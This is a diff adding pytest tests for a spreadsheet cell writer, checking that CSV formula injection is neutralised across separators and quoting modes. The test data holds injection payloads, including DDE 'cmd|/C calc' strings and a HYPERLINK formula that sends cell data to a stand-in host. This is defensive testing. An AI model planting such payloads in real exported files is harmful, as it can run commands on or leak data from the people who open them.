@@ -2,7 +2,12 @@
 
 from __future__ import annotations
 
+import csv
+import json
+import re
 from decimal import Decimal
+from io import StringIO
+from itertools import product
 from typing import Any
 
 import pytest
@@ -173,8 +178,70 @@ def test_a_cell_is_read_by_its_format(format_: Format, cell: str, value: Any) ->
     assert found == value
 
 
-@given(st.text(st.sampled_from("a'=-+\t \r\n\u00a0\u200b\u200d\ufeffé0"), max_size=5))
+SIGNS = tuple("=+-@\uff1d\uff0b\uff0d\uff20")
+
+
+def formulas(cell: str) -> list[str]:
+    """Return the formulas that programs find in a row with this cell.
+
+    Each of them has its separator, and reads quotes as it should, not at all, or by lines alone.
+    """
+    found = []
+    for own, other in product(",;\t", ",;\t|"):
+        file = StringIO(newline="")
+        csv.writer(file, delimiter=own, lineterminator="\r\n").writerow(["1", cell, "end"])
+        row = file.getvalue()
+        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
+            lines = csv.reader(StringIO(row, newline=""), delimiter=other, quoting=quoting)
+            found += [one for line in lines for one in line]
+        split = row.replace("\r", "\n").split("\n")
+        found += [one for line in csv.reader(split, delimiter=other) for one in line]
+    return [one for one in found if clean(one).startswith(SIGNS)]
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ("=1+1", "'=1+1"), ("Ana;=1+1", "Ana;'=1+1"), ("Ana,@SUM(1;1)", "Ana,'@SUM(1;1)"),
+        ("a\t-2+3+cmd|' /C calc'!A0", "a\t'-2+3+cmd|' /C calc'!A0"),
+        ("x;=cmd|'/C calc'!A0;y", "x;'=cmd|'/C calc'!A0;y"),
+        ('";=HYPERLINK("http://x.example?"&A1;"open")', None),
+        ('a;"=WEBSERVICE(A1)', "a;'\"=WEBSERVICE(A1)"), ("a;;;+1", "a;;;'+1"),
+        ("note\n=1+1", "note\n'=1+1"), ("note\r\n=1+1", "note\r\n'=1+1"),
+        ("note\r@x", "note\r'@x"), ("a; \u00a0=1", None), ("a;\t=1", "a;'\t'=1"),
+        ("a;\ufeff\u200b=1", None), ("a;\uff1d1+1", "a;'\uff1d1+1"), ("a|=1", "a|'=1"),
+        ("a;'=1", "a;''=1"), ("a;''=1", "a;'''=1"), ("a;'t", "a;'t"), ("a, b; c - d", None),
+        ("Rua A,\r\nSP", "Rua A,\r\nSP"), (["=1", "a;=1", 'b,"-1'], None),
+        ({"=k": "v;+1", "\u00a0": ["a;'=1"]}, None),
+    ],
+)  # fmt: skip
+def test_no_separator_finds_a_formula(text: Any, cell: str | None) -> None:
+    written = cells.write(text)
+    assert cell in (None, written)
+    assert formulas(written) == []
+    if isinstance(text, str):
+        assert cells.plain(written) == text
+    else:
+        assert cells.plain(written) == written
+        assert json.loads(written) == text
+
+
+def test_without_the_inner_marks_a_formula_is_found(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(cells, "UNMARKED", re.compile("(?!)"))
+    assert formulas(cells.write("a;=1"))
+    assert formulas(cells.write("a,=1"))
+    # A number is none.
+    assert cells.write([1, -5]) == "[1, -5]"
+
+
+@given(st.text(st.sampled_from("a'\"=-+,;|\t \r\n\u00a0\u200b\u200d\ufeffé0"), max_size=7))
 def test_each_text_is_written_so_that_it_reads_back_equal(text: str) -> None:
     cell = cells.write(text)
     assert (cells.plain(cell), cell[:1] in cells.STARTS) == (text, False)
     assert clean(clean(text)) == clean(text)
+    assert formulas(cell) == []
+    listed = cells.write([text, {text: text}])
+    assert (cells.plain(listed), json.loads(listed)) == (listed, [text, {text: text}])
+    assert formulas(listed) == []
+    # A report of faulty lines writes what it has read.
+    assert cells.plain(cells.inert(cells.plain(text))) == cells.plain(text)
